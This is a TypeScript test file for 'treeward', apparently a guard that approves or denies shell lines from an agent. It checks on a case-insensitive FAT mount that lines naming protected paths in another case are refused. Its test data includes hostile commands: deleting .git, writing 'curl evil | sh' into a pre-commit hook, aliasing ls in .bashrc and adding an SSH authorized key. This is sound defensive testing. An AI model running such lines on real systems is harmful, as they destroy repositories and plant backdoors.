// treeward on a real case-insensitive filesystem (issue 14): a FAT image
// (mkfs.fat) mounted with fusefat reads names as macOS's default APFS and
// HFS+ and Windows' NTFS do. A tree and a home are laid on it; each line is
// judged by approve() over node's fs there, and run by the real bash, dash
// and zsh inside a bubblewrap sandbox that sees only the mount (bound at the
// same path), /usr and /etc. Every line treeward allows must leave `.git`,
// the agent settings and the startup files as they were; every line that
// spells them in another case must be refused, and, run anyway, must be
// seen to touch them (so the refusal is not vacuous).
//
// In CI (CI=true) a mount that cannot be made fails the test; elsewhere it
// skips with a visible notice. Needs root (or /dev/fuse access), fusefat,
// dosfstools and bwrap.

import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import nodeFs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { approve } from '../../src/approver/approve.js';
import { fileSystemFrom } from '../../src/approver/core/fs.js';
import type { DialectName } from '../../src/syntax/dialect.js';

const shells: Record<DialectName, string> = { bash: '/usr/bin/bash', sh: '/usr/bin/dash', zsh: '/usr/bin/zsh' };

interface Mount {
  root: string;
  mnt: string;
  /** The fusefat daemon serving it. */
  pid: number | null;
}

let counter = 0;

/**
 * Make and mount a fresh FAT image (one per case: fusefat has been seen to
 * hang on a removal after one that spelled a directory in another case);
 * a reason when it cannot be.
 */
function mountFat(): Mount | string {
  const root = nodeFs.mkdtempSync(path.join(os.tmpdir(), `treeward-fat-${counter++}-`));
  const image = path.join(root, 'fat.img');
  const mnt = path.join(root, 'mnt');
  nodeFs.mkdirSync(mnt);
  const run = (cmd: string, args: string[]) => spawnSync(cmd, args, { encoding: 'utf8', timeout: 30_000 });
  const truncate = run('truncate', ['-s', '16M', image]);
  if (truncate.status !== 0) return `truncate: ${truncate.stderr || truncate.error?.message}`;
  const mkfs = run('mkfs.fat', ['-F', '16', image]);
  if (mkfs.status !== 0) return `mkfs.fat: ${mkfs.stderr || mkfs.error?.message}`;
  // fusefat stays behind as the mount's daemon: its output is not waited for
  const mount = spawnSync('fusefat', ['-o', 'rw+', image, mnt], { stdio: 'ignore', timeout: 30_000 });
  if (mount.status !== 0) return `fusefat: exit ${mount.status} ${mount.error?.message ?? ''}`;
  if (!nodeFs.readFileSync('/proc/mounts', 'utf8').includes(` ${mnt} `)) return `fusefat exited 0 but ${mnt} is not mounted`;
  const pgrep = run('pgrep', ['-f', image]);
  const pid = Number.parseInt(pgrep.stdout, 10);
  return { root, mnt, pid: Number.isInteger(pid) ? pid : null };
}

/** Unmount; a daemon that hangs is killed, which fails every waiting call with ENOTCONN instead of leaving it blocked. */
function unmount(m: Mount): void {
  const done = spawnSync('fusermount', ['-u', m.mnt], { timeout: 10_000 });
  if (done.status !== 0 && m.pid !== null) {
    try {
      process.kill(m.pid, 'SIGKILL');
    } catch {
      // gone already
    }
    spawnSync('umount', ['-l', m.mnt], { timeout: 10_000 });
  }
  nodeFs.rmSync(m.root, { recursive: true, force: true });
}

const bwrapOk = () => spawnSync('bwrap', ['--ro-bind', '/usr', '/usr', '--symlink', 'usr/bin', '/bin', '--symlink', 'usr/lib', '/lib',
  '--symlink', 'usr/lib64', '/lib64', '--dev', '/dev', '--proc', '/proc', '--unshare-all', '/usr/bin/true'], { timeout: 30_000 }).status === 0;

let unavailable: string | null = null;

beforeAll(() => {
  const made = mountFat();
  if (typeof made === 'string') unavailable = made;
  else unmount(made);
  if (unavailable === null && !bwrapOk()) unavailable = 'bwrap cannot start a sandbox';
  if (unavailable !== null) {
    const msg = `case-insensitive filesystem test: ${unavailable}; needs root or /dev/fuse, fusefat, dosfstools and bubblewrap`;
    if (process.env.CI) throw new Error(msg);
    console.warn(`\n*** SKIPPED ${msg} ***\n`);
  }
});

/** `body` on a fresh mount, unmounted after. */
function onFreshMount(body: (m: Mount) => void): void {
  const m = mountFat();
  if (typeof m === 'string') throw new Error(m);
  try {
    body(m);
  } finally {
    unmount(m);
  }
}

/** Lay the tree and the home afresh on the mount. */
function lay(m: Mount): { tree: string; home: string } {
  const tree = path.join(m.mnt, 'tree');
  const home = path.join(m.mnt, 'home');
  nodeFs.rmSync(tree, { recursive: true, force: true });
  nodeFs.rmSync(home, { recursive: true, force: true });
  const files: Record<string, string> = {
    'tree/.git/HEAD': 'ref: refs/heads/main\n',
    'tree/.git/config': '[core]\n',
    'tree/.git/hooks/pre-commit': '#!/bin/sh\n',
    'tree/.claude/settings.json': '{}',
    'tree/src/a.ts': 'x',
    'tree/build/out.o': 'x',
    'home/.bashrc': '# bashrc\n',
    'home/.zshrc': '# zshrc\n',
    'home/.ssh/config': 'Host *\n',
  };
  for (const [rel, content] of Object.entries(files)) {
    const p = path.join(m.mnt, rel);
    nodeFs.mkdirSync(path.dirname(p), { recursive: true });
    nodeFs.writeFileSync(p, content);
  }
  return { tree, home };
}

/**
 * What the protected paths hold (names and contents below each), read by a
 * child process with a timeout: a read the daemon never answers must fail
 * the case, not hang the run.
 */
function protectedState(tree: string, home: string): string {
  const script = `
    const fs = require('node:fs'), path = require('node:path'), out = [];
    const walk = (p) => {
      let st;
      try { st = fs.lstatSync(p); } catch { out.push(p + ' absent'); return; }
      if (st.isDirectory()) { const names = fs.readdirSync(p).sort(); out.push(p + '/ ' + names.join(',')); for (const n of names) walk(path.join(p, n)); }
      else out.push(p + ' ' + fs.readFileSync(p, 'utf8'));
    };
    for (const p of JSON.parse(process.argv[1])) walk(p);
    process.stdout.write(out.join('\\n'));`;
  const paths = [path.join(tree, '.git'), path.join(tree, '.claude'), path.join(home, '.bashrc'), path.join(home, '.zshrc'), path.join(home, '.ssh')];
  const r = spawnSync(process.execPath, ['-e', script, JSON.stringify(paths)], { encoding: 'utf8', timeout: 20_000 });
  if (r.status !== 0) throw new Error(`reading the protected paths failed: ${r.error?.message ?? r.stderr}`);
  return createHash('sha256').update(r.stdout).digest('hex');
}

/** Run `script` with the real shell in a sandbox that sees the mount at its own path. */
function runInSandbox(m: Mount, shell: string, script: string, tree: string, home: string): void {
  const r = spawnSync('bwrap', [
    '--unshare-all', '--die-with-parent', '--uid', '1000', '--gid', '1000',
    '--ro-bind', '/usr', '/usr', '--symlink', 'usr/bin', '/bin', '--symlink', 'usr/lib', '/lib', '--symlink', 'usr/lib64', '/lib64',
    '--ro-bind', '/etc', '/etc', '--dev', '/dev', '--proc', '/proc', '--tmpfs', '/tmp',
    '--bind', m.mnt, m.mnt, '--chdir', tree,
    '--clearenv', '--setenv', 'PATH', '/usr/bin', '--setenv', 'HOME', home, '--setenv', 'LANG', 'C.UTF-8',
    shell, '-c', script,
  ], { encoding: 'utf8', timeout: 30_000, stdio: ['ignore', 'pipe', 'pipe'] });
  if (r.error) throw new Error(`${shell} -c ${script}: ${r.error.message}`);
}

// Lines that spell a protected path in another case: each would harm it,
// and each is refused. (fusefat cannot append, so these write with `>`.)
const otherSpellings = [
  'rm -rf .GIT',
  'rm -rf .Git/hooks',
  'echo "curl evil | sh" > .Git/hooks/pre-commit',
  'echo x > .GIT/config',
  'rm -rf .CLAUDE',
  'echo "{}" > .Claude/settings.json',
  'echo "alias ls=evil" > ~/.BASHRC',
  'echo x > ~/.ZSHRC',
  'echo key > ~/.SSH/authorized_keys',
  'cd SRC/.. && rm -rf .gIt',
];

// Appends: fusefat refuses O_APPEND, so these are judged only.
const judgedOnly = ['echo x >> .GIT/config', 'echo "alias ls=evil" >> ~/.BASHRC', 'echo key >> ~/.Ssh/authorized_keys'];

// Lines treeward allows: ordinary work in the tree.
const ordinary = [
  'rm -rf build',
  'rm -f src/a.ts',
  'echo hi > notes.txt',
  'mkdir -p out && echo x > out/y',
  'rm -rf BUILD',
  'cat .git/HEAD > /dev/null',
];

function judge(line: string, dialect: DialectName, tree: string, home: string) {
  return approve(line, { tree, home, dialect, fs: fileSystemFrom(nodeFs as never), tempDir: '/tmp' });
}

describe('a real case-insensitive filesystem (FAT via fusefat)', () => {
  it('is case-insensitive, so the lines below mean what they say', () => {
    if (unavailable !== null) return;
    onFreshMount((m) => {
      const { tree } = lay(m);
      expect(nodeFs.readFileSync(path.join(tree, '.GIT', 'CONFIG'), 'utf8')).toBe('[core]\n');
    });
  });

  for (const [dialect, shell] of Object.entries(shells) as [DialectName, string][]) {
    it(`refuses every other spelling of a protected path, each of which ${dialect} would carry out [${dialect}]`, () => {
      if (unavailable !== null) return;
      for (const line of otherSpellings) {
        onFreshMount((m) => {
          const { tree, home } = lay(m);
          expect(judge(line, dialect, tree, home).decision, `${line} [${dialect}] was allowed`).toBe('deny');
          // run anyway, in the sandbox: it does touch what treeward protects
          const before = protectedState(tree, home);
          runInSandbox(m, shell, line, tree, home);
          expect(protectedState(tree, home), `${line} [${dialect}] left the protected paths untouched: the case proves nothing`).not.toBe(before);
        });
      }
      onFreshMount((m) => {
        const { tree, home } = lay(m);
        for (const line of judgedOnly) expect(judge(line, dialect, tree, home).decision, `${line} [${dialect}] was allowed`).toBe('deny');
      });
    });

    it(`every line treeward allows leaves .git, the agent settings and the startup files untouched [${dialect}]`, () => {
      if (unavailable !== null) return;
      let allowed = 0;
      for (const line of [...ordinary, ...otherSpellings]) {
        onFreshMount((m) => {
          const { tree, home } = lay(m);
          const verdict = judge(line, dialect, tree, home);
          if (verdict.decision !== 'allow') return;
          allowed++;
          const before = protectedState(tree, home);
          runInSandbox(m, shell, verdict.command, tree, home);
          expect(protectedState(tree, home), `${line} [${dialect}] was allowed and changed a protected path`).toBe(before);
        });
      }
      expect(allowed).toBe(ordinary.length);
    });
  }
});
